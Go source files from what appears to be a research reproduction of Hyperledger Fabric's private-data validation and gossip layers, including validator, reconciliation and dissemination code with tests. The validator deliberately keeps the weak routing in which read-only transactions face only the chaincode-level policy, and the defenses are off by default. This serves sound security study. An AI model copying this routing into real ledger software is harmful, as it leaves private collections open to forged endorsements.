		t.Fatal("hashed write not committed")
	}
}

func hashOf(key string) []byte {
	b := rwset.HashPvtCollection(&rwset.CollPvtRWSet{
		Collection: "pdc1",
		Writes:     []rwset.KVWrite{{Key: key, Value: []byte("x")}},
	})
	return b.HashedWrites[0].KeyHash
}
