// Package validator implements the validation phase of the three-phase
// workflow (paper §II-B3): the proof-of-policy (PoP) consensus checks —
// endorsement policy check and version-conflict (MVCC) check — followed
// by commit of valid transactions to the world state and blockchain.
//
// The policy-routing logic reproduced here is the crux of the paper's
// Use Case 2: read-only transactions are always validated against the
// chaincode-level endorsement policy, and write-related transactions use
// a collection-level policy only when one is defined. Defense Feature 1
// (§IV-C1) changes the read-only routing; the supplemental filter of
// §V-D discards endorsements from collection non-members.
package validator

import (
	"fmt"
	"sort"
	"sync"
	"time"

	"repro/internal/chaincode"
	"repro/internal/channel"
	"repro/internal/core"
	"repro/internal/dedup"
	"repro/internal/fabcrypto"
	"repro/internal/gossip"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/metrics"
	"repro/internal/policy"
	"repro/internal/pvtdata"
	"repro/internal/rwset"
	"repro/internal/statedb"
	"repro/internal/storage"
)

// Validator is the committing engine of one peer.
type Validator struct {
	selfName   string
	selfOrg    string
	channelCfg *channel.Config
	verifier   *identity.Verifier
	vcache     *identity.VerifyCache
	dedupe     *dedup.Cache // nil when disabled
	defs       func(name string) *chaincode.Definition
	db         *statedb.DB
	pvt        *pvtdata.Store
	transient  *pvtdata.TransientStore
	gossip     *gossip.Network
	blocks     *ledger.BlockStore
	sec        core.SecurityConfig
	counters   *metrics.Counters // optional
	timings    *metrics.Timings  // optional

	// missing records private data the peer could not obtain at commit
	// time (tx ID -> collection names), mirroring Fabric's missing
	// private data bookkeeping. missingMu guards it: the commit path
	// appends while the reconciler may read and clear from another
	// goroutine.
	missingMu sync.Mutex
	missing   map[string][]string

	// durable, when set, mirrors the missing records to the peer's
	// durable PvtStore so reconciliation work survives a restart.
	// Failures go sticky in durableErr, surfaced via DurableErr.
	durable    storage.PvtStore
	durableErr error
}

// Config wires a Validator.
type Config struct {
	SelfName  string
	SelfOrg   string
	Channel   *channel.Config
	Verifier  *identity.Verifier
	Defs      func(name string) *chaincode.Definition
	DB        *statedb.DB
	Pvt       *pvtdata.Store
	Transient *pvtdata.TransientStore
	Gossip    *gossip.Network
	Blocks    *ledger.BlockStore
	Security  core.SecurityConfig
	// Metrics, when non-nil, receives verification-cache hit/miss
	// counters.
	Metrics *metrics.Counters
	// Timings, when non-nil, receives the per-phase validation latency
	// histograms (metrics.ValidateVerify/Policy/MVCC/Commit).
	Timings *metrics.Timings
	// Durable, when non-nil, receives missing-private-data records so the
	// reconciler's work queue survives a restart (docs/STORAGE.md §7).
	Durable storage.PvtStore
}

// New creates a validator.
func New(cfg Config) *Validator {
	var dd *dedup.Cache
	if cfg.Security.DedupCacheSize >= 0 {
		dd = dedup.New(cfg.Security.DedupCacheSize)
	}
	return &Validator{
		selfName:   cfg.SelfName,
		selfOrg:    cfg.SelfOrg,
		channelCfg: cfg.Channel,
		verifier:   cfg.Verifier,
		vcache:     identity.NewVerifyCache(cfg.Verifier, cfg.Security.VerifyCacheSize, cfg.Metrics),
		dedupe:     dd,
		defs:       cfg.Defs,
		db:         cfg.DB,
		pvt:        cfg.Pvt,
		transient:  cfg.Transient,
		gossip:     cfg.Gossip,
		blocks:     cfg.Blocks,
		sec:        cfg.Security,
		counters:   cfg.Metrics,
		timings:    cfg.Timings,
		durable:    cfg.Durable,
		missing:    make(map[string][]string),
	}
}

// DurableErr returns the first failure writing a missing-private-data
// record to the durable store, if any. The peer checks it before
// declaring a block durable, so a lost record forces replay.
func (v *Validator) DurableErr() error {
	v.missingMu.Lock()
	defer v.missingMu.Unlock()
	return v.durableErr
}

// RestoreMissing reloads the missing-private-data records from the
// durable store on recovery, before block replay re-records (and
// dedupes against) whatever the replayed blocks still miss.
func (v *Validator) RestoreMissing() error {
	if v.durable == nil {
		return nil
	}
	return v.durable.LoadMissing(func(e storage.MissingEntry) error {
		v.missingMu.Lock()
		v.addMissingLocked(e.TxID, e.Collection)
		v.missingMu.Unlock()
		return nil
	})
}

// addMissingLocked records a missing (txID, collection) pair, deduped —
// recovery replay revisits blocks whose records were already restored.
// Caller holds missingMu.
func (v *Validator) addMissingLocked(txID, collection string) bool {
	for _, c := range v.missing[txID] {
		if c == collection {
			return false
		}
	}
	v.missing[txID] = append(v.missing[txID], collection)
	return true
}

// recordMissing registers a missing entry in memory and, when a durable
// store is attached, on disk. Duplicate records are no-ops end to end.
func (v *Validator) recordMissing(txID, collection string) {
	v.missingMu.Lock()
	fresh := v.addMissingLocked(txID, collection)
	v.missingMu.Unlock()
	if !fresh || v.durable == nil {
		return
	}
	if err := v.durable.RecordMissing(storage.MissingEntry{TxID: txID, Collection: collection}); err != nil {
		v.missingMu.Lock()
		if v.durableErr == nil {
			v.durableErr = err
		}
		v.missingMu.Unlock()
	}
}

// DedupStats returns the duplicate-TxID cache's counters (hits are
// replays rejected before signature verification). The zero Stats is
// returned when the cache is disabled.
func (v *Validator) DedupStats() dedup.Stats {
	if v.dedupe == nil {
		return dedup.Stats{}
	}
	return v.dedupe.Stats()
}

// FlushVerifyCache drops every memoized endorsement verification.
// Benchmarks use it to measure the uncached path; operators never need
// it (CA rotation invalidates entries by generation).
func (v *Validator) FlushVerifyCache() { v.vcache.Flush() }

// SetSecurity swaps the active security configuration.
func (v *Validator) SetSecurity(sec core.SecurityConfig) { v.sec = sec }

// MissingPrivateData returns the collections for which the peer is a
// member but never obtained the original private data of a transaction.
func (v *Validator) MissingPrivateData(txID string) []string {
	v.missingMu.Lock()
	defer v.missingMu.Unlock()
	return append([]string(nil), v.missing[txID]...)
}

// MissingEntry identifies one (transaction, collection) pair of missing
// private data; the reconciler's unit of work.
type MissingEntry struct {
	TxID       string
	Collection string
}

// Missing returns every recorded missing-private-data entry, sorted by
// (txID, collection). The reconciler syncs its retry queue against this
// on every tick.
func (v *Validator) Missing() []MissingEntry {
	v.missingMu.Lock()
	defer v.missingMu.Unlock()
	var out []MissingEntry
	for txID, colls := range v.missing {
		for _, c := range colls {
			out = append(out, MissingEntry{TxID: txID, Collection: c})
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].TxID != out[j].TxID {
			return out[i].TxID < out[j].TxID
		}
		return out[i].Collection < out[j].Collection
	})
	return out
}

// SeedMissing installs missing-private-data records transferred in a
// snapshot, deduped against anything already recorded and mirrored to
// the durable store. The installed peer's reconciler then retries the
// exporter's unresolved fetches as if it had recorded them itself.
func (v *Validator) SeedMissing(entries []MissingEntry) error {
	for _, e := range entries {
		v.recordMissing(e.TxID, e.Collection)
	}
	return v.DurableErr()
}

// ReconcileOne performs one reconciliation attempt for a recorded
// missing entry: it pulls the original set from other member peers via
// gossip, verifies it against the in-block hashes and commits the
// recovered values at the hashed store's current versions — but only
// when the hashed store still reflects those writes (a later overwrite
// makes the old values stale, in which case the entry stays recorded
// until the newer transaction's reconciliation covers it). On success
// the entry is cleared and true is returned.
func (v *Validator) ReconcileOne(txID, collection string) bool {
	v.missingMu.Lock()
	recorded := false
	for _, c := range v.missing[txID] {
		if c == collection {
			recorded = true
			break
		}
	}
	v.missingMu.Unlock()
	if !recorded {
		return false
	}
	tx, code, err := v.blocks.Transaction(txID)
	if err != nil || code != ledger.Valid {
		return false
	}
	prp, err := tx.ResponsePayloadParsed()
	if err != nil {
		return false
	}
	set, err := prp.RWSet()
	if err != nil {
		return false
	}
	def := v.defs(prp.Chaincode)
	if def == nil {
		return false
	}
	if !v.reconcileOne(txID, def, set, collection) {
		return false
	}
	v.missingMu.Lock()
	remaining := v.missing[txID][:0]
	for _, c := range v.missing[txID] {
		if c != collection {
			remaining = append(remaining, c)
		}
	}
	if len(remaining) == 0 {
		delete(v.missing, txID)
	} else {
		v.missing[txID] = remaining
	}
	v.missingMu.Unlock()
	if v.durable != nil {
		if err := v.durable.ResolveMissing(storage.MissingEntry{TxID: txID, Collection: collection}); err != nil {
			v.missingMu.Lock()
			if v.durableErr == nil {
				v.durableErr = err
			}
			v.missingMu.Unlock()
		}
	}
	return true
}

func (v *Validator) reconcileOne(
	txID string,
	def *chaincode.Definition,
	set *rwset.TxRWSet,
	collName string,
) bool {
	cfg := def.Collection(collName)
	if cfg == nil {
		return false
	}
	var hashed *rwset.CollHashedRWSet
	for i := range set.CollSets {
		if set.CollSets[i].Collection == collName {
			hashed = &set.CollSets[i]
			break
		}
	}
	if hashed == nil {
		return false
	}
	orig := v.gossip.Reconcile(v.selfName, cfg, txID)
	if orig == nil || !rwset.MatchesHashed(orig, hashed) {
		return false
	}
	for _, w := range orig.Writes {
		if w.IsDelete {
			continue
		}
		// Apply only when the hashed store still holds this exact
		// value — otherwise a newer write superseded it.
		current, ver, ok := v.pvt.GetPrivateHash(def.Name, collName, w.Key)
		if !ok || !fabcrypto.Equal(current, fabcrypto.Hash(w.Value)) {
			continue
		}
		v.pvt.ApplyPrivateWrite(def.Name, collName, w.Key, w.Value, ver)
	}
	return true
}

// ReplayBlock re-applies an already-validated block during restart
// recovery: the validation flags recorded in the block metadata are
// trusted (they were computed by this peer before the block was made
// durable), so only the commit path runs.
func (v *Validator) ReplayBlock(block *ledger.Block) error {
	for i, tx := range block.Transactions {
		// Every appended ID — valid or not — is a future duplicate, so
		// the cache mirrors the full block like ValidateAndCommit does.
		if v.dedupe != nil {
			v.dedupe.Add(tx.TxID)
		}
		if block.Metadata.ValidationFlags[i] == ledger.Valid {
			v.commitTx(block.Header.Number, tx)
		}
	}
	if err := v.blocks.Append(block); err != nil {
		return fmt.Errorf("validator %s: replay: %w", v.selfName, err)
	}
	v.pvt.PurgeUpTo(block.Header.Number)
	return nil
}

// ValidateTx runs the two PoP checks on one transaction and returns its
// validation code. It performs no commit. Replayed transactions (an ID
// already on the chain) are rejected outright, as in Fabric — without
// this, a captured valid read-only transaction could be resubmitted
// forever, since the version-conflict check alone would keep passing.
//
// The check is split in two halves so that ValidateAndCommit can fan the
// first out across workers: preValidate covers everything that depends
// only on the transaction bytes and channel configuration, and
// finishValidate covers everything that must observe the world state as
// left by the preceding transactions of the block.
func (v *Validator) ValidateTx(tx *ledger.Transaction) ledger.ValidationCode {
	return v.finishValidate(v.preValidate(tx))
}

// txPrecheck carries the state-independent validation results of one
// transaction out of the parallel phase.
type txPrecheck struct {
	tx   *ledger.Transaction
	code ledger.ValidationCode // Valid when every precheck passed
	prp  *ledger.ProposalResponsePayload
	set  *rwset.TxRWSet
	def  *chaincode.Definition

	// signers are the endorser certificates whose signatures verified
	// (after the non-member filter, when enabled).
	signers []*identity.Certificate
	// collCount is the number of applicable collection-level policies;
	// collOK reports whether the signers satisfied every one of them.
	collCount int
	collOK    bool
	// ccOK reports whether the signers satisfied the chaincode-level
	// policy (pre-evaluated unconditionally; consulted only when the
	// routing of finishValidate requires it).
	ccOK bool

	// policyDur accumulates the parallel share of policy-evaluation
	// time; finishValidate adds the key-level routing share before
	// observing the total.
	policyDur time.Duration
}

// preValidate runs every check that does not depend on the world state:
// the replay check (the block store does not change while a block
// validates), payload parsing, certificate and signature verification,
// and evaluation of the state-independent endorsement policies
// (collection-level and chaincode-level). Safe to call concurrently for
// different transactions.
func (v *Validator) preValidate(tx *ledger.Transaction) *txPrecheck {
	pre := &txPrecheck{tx: tx, code: ledger.Valid}
	// Replay check, two tiers: the sharded dedup cache answers the hot
	// case (a replayed ID recently committed) from a striped bucket with
	// no global lock; only a cache miss pays the block store's
	// read-locked index lookup, which stays authoritative because the
	// cache is bounded and may have evicted the ID.
	if v.dedupe != nil && v.dedupe.Seen(tx.TxID) {
		pre.code = ledger.DuplicateTxID
		return pre
	}
	if _, _, err := v.blocks.Transaction(tx.TxID); err == nil {
		pre.code = ledger.DuplicateTxID
		return pre
	}
	prp, err := tx.ResponsePayloadParsed()
	if err != nil {
		pre.code = ledger.BadPayload
		return pre
	}
	set, err := prp.RWSet()
	if err != nil {
		pre.code = ledger.BadPayload
		return pre
	}
	def := v.defs(prp.Chaincode)
	if def == nil {
		pre.code = ledger.BadPayload
		return pre
	}
	pre.prp, pre.set, pre.def = prp, set, def

	verifyStart := time.Now()
	signers, code := v.verifiedEndorsers(tx, def, set)
	v.observe(metrics.ValidateVerify, verifyStart)
	if code != ledger.Valid {
		pre.code = code
		return pre
	}
	pre.signers = signers

	policyStart := time.Now()
	collPols := v.applicableCollectionPolicies(def, set)
	pre.collCount = len(collPols)
	pre.collOK = true
	for _, pol := range collPols {
		if !pol.Evaluate(signers) {
			pre.collOK = false
			break
		}
	}
	pre.ccOK = v.chaincodePolicySatisfied(def, signers)
	pre.policyDur = time.Since(policyStart)
	return pre
}

// finishValidate completes validation over the current world state: the
// key-level endorsement-policy routing (validation parameters live in
// the state database, so writes of earlier transactions in the same
// block must be visible) and the MVCC check. Must run in block order.
func (v *Validator) finishValidate(pre *txPrecheck) ledger.ValidationCode {
	if pre.code != ledger.Valid {
		return pre.code
	}
	policyStart := time.Now()
	ok := v.policyRoutingSatisfied(pre)
	if v.timings != nil {
		v.timings.Observe(metrics.ValidatePolicy, pre.policyDur+time.Since(policyStart))
	}
	if !ok {
		return ledger.EndorsementPolicyFailure
	}
	mvccStart := time.Now()
	current := v.versionsCurrent(pre.def, pre.set)
	v.observe(metrics.ValidateMVCC, mvccStart)
	if !current {
		return ledger.MVCCConflict
	}
	return ledger.Valid
}

// observe records a phase latency when timing is enabled.
func (v *Validator) observe(name string, start time.Time) {
	if v.timings != nil {
		v.timings.Observe(name, time.Since(start))
	}
}

// verifiedEndorsers validates endorsement certificates and signatures and
// returns the certificates whose signatures verify. Under the
// supplemental non-member filter, endorsements from organizations outside
// every touched collection's membership are discarded here.
func (v *Validator) verifiedEndorsers(
	tx *ledger.Transaction,
	def *chaincode.Definition,
	set *rwset.TxRWSet,
) ([]*identity.Certificate, ledger.ValidationCode) {
	var touched []*pvtdata.CollectionConfig
	if v.sec.FilterNonMemberEndorsements {
		for _, cs := range set.CollSets {
			if cfg := def.Collection(cs.Collection); cfg != nil {
				touched = append(touched, cfg)
			}
		}
	}

	var signers []*identity.Certificate
	for _, e := range tx.Endorsements {
		// The cache folds certificate parsing, the CA check and the
		// endorsement-signature check into one memoized lookup; repeat
		// endorsers across a block skip the CA-side ECDSA entirely.
		cert, err := v.vcache.VerifyEndorsement(e.Endorser, tx.ResponsePayload, e.Signature)
		if err != nil {
			return nil, ledger.BadSignature
		}
		if excludeNonMember(cert, touched) {
			continue
		}
		signers = append(signers, cert)
	}
	return signers, ledger.Valid
}

func excludeNonMember(cert *identity.Certificate, touched []*pvtdata.CollectionConfig) bool {
	for _, cfg := range touched {
		if !cfg.IsMember(cert.Org) {
			return true
		}
	}
	return false
}

// policyRoutingSatisfied routes the transaction to the applicable
// endorsement policies. The state-independent policies (collection-level
// and chaincode-level) were already evaluated over the verified signers
// in preValidate; this sequential half resolves the key-level validation
// parameters — which live in the state database and may have been
// written by an earlier transaction of the same block — and combines the
// verdicts.
//
// Routing (original Fabric, per the paper §III-C and the key-level
// validation of validator_keylevel.go, the source the paper cites):
//   - transactions that WRITE to a collection with a collection-level
//     endorsement policy must satisfy that policy;
//   - public writes to keys carrying a key-level validation parameter
//     must satisfy that key's policy; such keys are exempt from the
//     chaincode-level policy;
//   - everything else — including all read-only transactions — must
//     satisfy the chaincode-level policy.
//
// Feature 1 adds: transactions that READ a collection with a
// collection-level policy must satisfy it too.
func (v *Validator) policyRoutingSatisfied(pre *txPrecheck) bool {
	// Key-level routing over public writes and metadata writes.
	publicWrites := false
	needChaincodePolicy := false
	keyPolicies := 0
	keyPoliciesOK := true
	for _, ns := range pre.set.NsRWSets {
		for _, w := range ns.Writes {
			publicWrites = true
			if pol := v.keyLevelPolicy(ns.Namespace, w.Key); pol != nil {
				keyPolicies++
				if !pol.Evaluate(pre.signers) {
					keyPoliciesOK = false
				}
			} else {
				needChaincodePolicy = true
			}
		}
		for _, mw := range ns.MetaWrites {
			// Changing a key's validation parameter is itself
			// governed by the key's current policy (or the
			// chaincode-level one if none is set yet).
			publicWrites = true
			if pol := v.keyLevelPolicy(ns.Namespace, mw.Key); pol != nil {
				keyPolicies++
				if !pol.Evaluate(pre.signers) {
					keyPoliciesOK = false
				}
			} else {
				needChaincodePolicy = true
			}
		}
	}
	// Read-only transactions (and transactions whose only effects are
	// collection writes without a collection policy) fall back to the
	// chaincode-level policy — the paper's Use Case 2 routing.
	if pre.collCount+keyPolicies == 0 && !publicWrites {
		needChaincodePolicy = true
	}

	if needChaincodePolicy && !pre.ccOK {
		return false
	}
	return pre.collOK && keyPoliciesOK
}

// keyLevelPolicy resolves the validation parameter of a public key, or
// nil when the key has none (or it fails to parse, in which case the
// chaincode-level policy governs, as a broken parameter must not make
// keys unwritable).
func (v *Validator) keyLevelPolicy(ns, key string) policy.Policy {
	// Zero-copy read: the spec bytes only feed policy.Parse, which does
	// not retain or mutate them.
	spec, _, ok := v.db.GetUnsafe(statedb.MetadataNamespace(ns), key)
	if !ok || len(spec) == 0 {
		return nil
	}
	pol, err := policy.Parse(string(spec))
	if err != nil {
		return nil
	}
	return pol
}

func (v *Validator) applicableCollectionPolicies(
	def *chaincode.Definition,
	set *rwset.TxRWSet,
) []policy.Policy {
	names := rwset.WriteCollections(set)
	if v.sec.CollectionPolicyForReads {
		names = append(names, rwset.ReadCollections(set)...)
	}
	var out []policy.Policy
	seen := make(map[string]bool)
	for _, name := range names {
		if seen[name] {
			continue
		}
		seen[name] = true
		cfg := def.Collection(name)
		if cfg == nil || cfg.EndorsementPolicy == "" {
			continue
		}
		pol, err := policy.Parse(cfg.EndorsementPolicy)
		if err != nil {
			continue
		}
		out = append(out, pol)
	}
	return out
}

func (v *Validator) chaincodePolicySatisfied(def *chaincode.Definition, signers []*identity.Certificate) bool {
	pol, err := v.channelCfg.ResolvePolicy(def.EndorsementPolicy)
	if err != nil {
		return false
	}
	return pol.Evaluate(signers)
}

// versionsCurrent performs the version-conflict check: every version in
// the read sets (public and hashed-collection) must match the current
// world state, and every recorded range query must re-execute to the
// identical key/version list (phantom-read protection). The check does
// NOT re-execute chaincode — which is why the paper's fabricated
// proposal responses pass it (§IV-A1).
func (v *Validator) versionsCurrent(def *chaincode.Definition, set *rwset.TxRWSet) bool {
	for _, ns := range set.NsRWSets {
		// Batch the whole read set through one lock acquisition on the
		// namespace shard instead of locking per key.
		if n := len(ns.Reads); n > 0 {
			keys := make([]string, n)
			for i, r := range ns.Reads {
				keys[i] = r.Key
			}
			current := v.db.GetVersions(ns.Namespace, keys)
			for i, r := range ns.Reads {
				if current[i] != r.Version {
					return false
				}
			}
		}
		for _, rq := range ns.RangeQueries {
			if !v.rangeUnchanged(ns.Namespace, rq) {
				return false
			}
		}
	}
	for _, cs := range set.CollSets {
		if n := len(cs.HashedReads); n > 0 {
			hashes := make([][]byte, n)
			for i, r := range cs.HashedReads {
				hashes[i] = r.KeyHash
			}
			current := v.pvt.HashedVersions(def.Name, cs.Collection, hashes)
			for i, r := range cs.HashedReads {
				if current[i] != r.Version {
					return false
				}
			}
		}
	}
	return true
}

// rangeUnchanged re-executes a recorded range query against the current
// state and compares keys and versions exactly. Any inserted (phantom),
// deleted, or updated key in the range invalidates the transaction.
func (v *Validator) rangeUnchanged(ns string, rq rwset.RangeQuery) bool {
	// Version-only scan: the comparison needs keys and versions, so no
	// value is copied out of the store.
	current := v.db.RangeVersions(ns, rq.StartKey, rq.EndKey)
	if len(current) != len(rq.Reads) {
		return false
	}
	for i, kv := range current {
		if kv.Key != rq.Reads[i].Key || kv.Version != rq.Reads[i].Version {
			return false
		}
	}
	return true
}

// commitTx applies a valid transaction's writes: public writes at every
// peer, hashed collection writes at every peer, and original private
// writes at member peers (after verifying the gossiped original against
// the in-block hashes).
func (v *Validator) commitTx(blockNum uint64, tx *ledger.Transaction) {
	prp, err := tx.ResponsePayloadParsed()
	if err != nil {
		return
	}
	set, err := prp.RWSet()
	if err != nil {
		return
	}
	def := v.defs(prp.Chaincode)
	if def == nil {
		return
	}

	for _, ns := range set.NsRWSets {
		for _, w := range ns.Writes {
			if w.IsDelete {
				v.db.Delete(ns.Namespace, w.Key)
			} else {
				v.db.Put(ns.Namespace, w.Key, w.Value)
			}
		}
		for _, mw := range ns.MetaWrites {
			v.db.Put(statedb.MetadataNamespace(ns.Namespace), mw.Key, []byte(mw.Policy))
		}
	}

	for _, cs := range set.CollSets {
		if len(cs.HashedWrites) == 0 {
			continue
		}
		cfg := def.Collection(cs.Collection)
		if cfg == nil {
			continue
		}
		member := cfg.IsMember(v.selfOrg)
		orig := v.originalPvtSet(tx.TxID, cfg, &cs, member)

		for _, hw := range cs.HashedWrites {
			if hw.IsDelete {
				v.pvt.DeleteHashed(def.Name, cs.Collection, hw.KeyHash)
				if member {
					if w := matchWrite(orig, hw.KeyHash); w != nil {
						v.pvt.DeletePrivate(def.Name, cs.Collection, w.Key)
					}
				}
				continue
			}
			ver := v.pvt.ApplyHashedWrite(def.Name, cs.Collection, hw.KeyHash, hw.ValueHash)
			if member {
				if w := matchWrite(orig, hw.KeyHash); w != nil {
					v.pvt.ApplyPrivateWrite(def.Name, cs.Collection, w.Key, w.Value, ver)
					if cfg.BlockToLive > 0 {
						v.pvt.SchedulePurge(blockNum+cfg.BlockToLive, def.Name, cs.Collection, w.Key)
					}
				}
			}
		}
		if member && orig == nil {
			v.recordMissing(tx.TxID, cs.Collection)
		}
	}
	v.transient.Purge(tx.TxID)
}

// originalPvtSet obtains the original private set of a collection for a
// transaction: from the local transient store, falling back to a gossip
// reconciliation pull, verifying in both cases that the original hashes
// to the in-block hashed set.
func (v *Validator) originalPvtSet(
	txID string,
	cfg *pvtdata.CollectionConfig,
	hashed *rwset.CollHashedRWSet,
	member bool,
) *rwset.CollPvtRWSet {
	if !member {
		return nil
	}
	orig := v.transient.GetCollection(txID, cfg.Name)
	if orig == nil || !rwset.MatchesHashed(orig, hashed) {
		orig = v.gossip.Reconcile(v.selfName, cfg, txID)
	}
	if orig == nil || !rwset.MatchesHashed(orig, hashed) {
		return nil
	}
	return orig
}

// matchWrite finds the original write whose key hashes to keyHash.
func matchWrite(orig *rwset.CollPvtRWSet, keyHash []byte) *rwset.KVWrite {
	if orig == nil {
		return nil
	}
	for i := range orig.Writes {
		if fabcrypto.Equal(fabcrypto.HashString(orig.Writes[i].Key), keyHash) {
			return &orig.Writes[i]
		}
	}
	return nil
}
