// Package gossip implements the peer-to-peer dissemination of original
// private data. In the PDC transaction workflow (paper §III-A2, Fig. 2
// steps 7–9), an endorsing peer keeps the original private read/write set
// out of the transaction and instead sends it via gossip to the other
// collection member peers, which need it in the validation phase.
//
// The package also provides commit-time reconciliation: a member peer
// that never received a private set (e.g. it joined late or dissemination
// was dropped) pulls it from another member before committing.
package gossip

import (
	"errors"
	"fmt"
	"sort"
	"sync"

	"repro/internal/pvtdata"
	"repro/internal/rwset"
)

// Member is the gossip-facing surface of a peer.
type Member interface {
	// GossipName returns the peer's unique name, e.g. "peer0.org1".
	GossipName() string
	// GossipOrg returns the peer's organization.
	GossipOrg() string
	// ReceivePrivateData accepts a disseminated private read/write set
	// into the peer's transient store.
	ReceivePrivateData(set *rwset.TxPvtRWSet)
	// ServePrivateData returns the original private set of one
	// collection for a transaction, from the transient store, or nil.
	// Members answer reconciliation pulls with it.
	ServePrivateData(txID, collection string) *rwset.CollPvtRWSet
}

// ErrDisseminationShort is returned when fewer than RequiredPeerCount
// member peers acknowledged a private data push.
var ErrDisseminationShort = errors.New("gossip: dissemination below RequiredPeerCount")

// Network is the in-process gossip fabric connecting the peers of one
// channel.
type Network struct {
	mu      sync.RWMutex
	members map[string]Member
	// dropped marks peer names that silently drop incoming private
	// data, for failure injection.
	dropped map[string]bool
	// isolated marks peers cut off from gossip entirely: they receive
	// no pushes, serve no pulls, and their own pulls return nothing.
	isolated map[string]bool
}

// NewNetwork creates an empty gossip network.
func NewNetwork() *Network {
	return &Network{
		members:  make(map[string]Member),
		dropped:  make(map[string]bool),
		isolated: make(map[string]bool),
	}
}

// Isolate cuts a peer off from the gossip fabric entirely (failure
// injection): no deliveries in, no serving out, no pulls.
func (n *Network) Isolate(peerName string, isolated bool) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.isolated[peerName] = isolated
}

// Join registers a peer.
func (n *Network) Join(m Member) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.members[m.GossipName()] = m
}

// DropDeliveries makes the named peer silently lose incoming private
// data pushes (failure injection). Reconciliation pulls still work.
func (n *Network) DropDeliveries(peerName string, drop bool) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.dropped[peerName] = drop
}

// membersOfOrgs returns registered peers whose org is in orgs, excluding
// the peer named self, sorted by peer name. The ordering makes the
// fan-out selection of Disseminate deterministic: when MaxPeerCount
// truncates the target list, the same peers receive the data on every
// run.
func (n *Network) membersOfOrgs(orgs []string, self string) []Member {
	orgSet := make(map[string]bool, len(orgs))
	for _, o := range orgs {
		orgSet[o] = true
	}
	n.mu.RLock()
	defer n.mu.RUnlock()
	var out []Member
	for name, m := range n.members {
		if name == self || n.isolated[name] {
			continue
		}
		if orgSet[m.GossipOrg()] {
			out = append(out, m)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].GossipName() < out[j].GossipName() })
	return out
}

// reachable reports whether a peer currently participates in gossip.
func (n *Network) reachable(peerName string) bool {
	n.mu.RLock()
	defer n.mu.RUnlock()
	return !n.isolated[peerName]
}

// Disseminate pushes the private set of one collection from the endorsing
// peer to other member peers, honoring the collection's MaxPeerCount
// fan-out bound, and fails when fewer than RequiredPeerCount peers
// received it — in which case the endorsement must not be returned.
//
// MaxPeerCount == 0 means "push to none" (Fabric semantics): the data
// stays in the endorsing peer's transient store until member peers pull
// it at commit time or through reconciliation. An isolated endorsing
// peer ("no serving out") likewise pushes to nobody.
func (n *Network) Disseminate(
	self string,
	cfg *pvtdata.CollectionConfig,
	txID string,
	collSet *rwset.CollPvtRWSet,
) error {
	if !n.reachable(self) {
		if cfg.RequiredPeerCount > 0 {
			return fmt.Errorf("%w: collection %q tx %s: endorsing peer %s is isolated, delivered 0, required %d",
				ErrDisseminationShort, cfg.Name, txID, self, cfg.RequiredPeerCount)
		}
		return nil
	}
	targets := n.membersOfOrgs(cfg.MemberOrgs(), self)
	maxPush := cfg.MaxPeerCount
	if maxPush > len(targets) {
		maxPush = len(targets)
	}
	delivered := 0
	for _, m := range targets {
		if delivered >= maxPush {
			break
		}
		n.mu.RLock()
		droppedNow := n.dropped[m.GossipName()]
		n.mu.RUnlock()
		if droppedNow {
			continue
		}
		m.ReceivePrivateData(&rwset.TxPvtRWSet{
			TxID:     txID,
			CollSets: []rwset.CollPvtRWSet{*collSet},
		})
		delivered++
	}
	if delivered < cfg.RequiredPeerCount {
		return fmt.Errorf("%w: collection %q tx %s: delivered %d, required %d",
			ErrDisseminationShort, cfg.Name, txID, delivered, cfg.RequiredPeerCount)
	}
	return nil
}

// Reconcile pulls the original private set of one collection for txID
// from any member peer that has it. Returns nil when no member can serve
// it.
func (n *Network) Reconcile(self string, cfg *pvtdata.CollectionConfig, txID string) *rwset.CollPvtRWSet {
	if !n.reachable(self) {
		return nil
	}
	for _, m := range n.membersOfOrgs(cfg.MemberOrgs(), self) {
		if set := m.ServePrivateData(txID, cfg.Name); set != nil {
			return set
		}
	}
	return nil
}

// Peers returns the names of all registered peers, for diagnostics.
func (n *Network) Peers() []string {
	n.mu.RLock()
	defer n.mu.RUnlock()
	out := make([]string, 0, len(n.members))
	for name := range n.members {
		out = append(out, name)
	}
	return out
}
