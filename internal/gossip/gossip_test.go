package gossip

import (
	"errors"
	"fmt"
	"testing"
	"testing/quick"

	"repro/internal/pvtdata"
	"repro/internal/rwset"
)

// fakePeer implements Member with an in-memory transient store.
type fakePeer struct {
	name, org string
	received  []*rwset.TxPvtRWSet
	serve     map[string]*rwset.CollPvtRWSet // "txID/coll" -> set
}

func newFakePeer(name, org string) *fakePeer {
	return &fakePeer{name: name, org: org, serve: make(map[string]*rwset.CollPvtRWSet)}
}

func (f *fakePeer) GossipName() string { return f.name }
func (f *fakePeer) GossipOrg() string  { return f.org }
func (f *fakePeer) ReceivePrivateData(set *rwset.TxPvtRWSet) {
	f.received = append(f.received, set)
}
func (f *fakePeer) ServePrivateData(txID, coll string) *rwset.CollPvtRWSet {
	return f.serve[txID+"/"+coll]
}

func collCfg(required, maxPeers int) *pvtdata.CollectionConfig {
	return &pvtdata.CollectionConfig{
		Name:              "pdc1",
		MemberPolicy:      "OR(org1.member, org2.member)",
		RequiredPeerCount: required,
		MaxPeerCount:      maxPeers,
	}
}

func set() *rwset.CollPvtRWSet {
	return &rwset.CollPvtRWSet{
		Collection: "pdc1",
		Writes:     []rwset.KVWrite{{Key: "k", Value: []byte("v")}},
	}
}

func TestDisseminateToMembersOnly(t *testing.T) {
	n := NewNetwork()
	p1 := newFakePeer("peer0.org1", "org1")
	p2 := newFakePeer("peer0.org2", "org2")
	p3 := newFakePeer("peer0.org3", "org3")
	n.Join(p1)
	n.Join(p2)
	n.Join(p3)

	if err := n.Disseminate("peer0.org1", collCfg(1, 3), "tx1", set()); err != nil {
		t.Fatal(err)
	}
	if len(p2.received) != 1 {
		t.Fatal("member org2 did not receive private data")
	}
	if len(p3.received) != 0 {
		t.Fatal("non-member org3 received private data")
	}
	if len(p1.received) != 0 {
		t.Fatal("self received own dissemination")
	}
	if got := p2.received[0]; got.TxID != "tx1" || got.CollSets[0].Collection != "pdc1" {
		t.Fatalf("received = %+v", got)
	}
}

func TestRequiredPeerCountEnforced(t *testing.T) {
	n := NewNetwork()
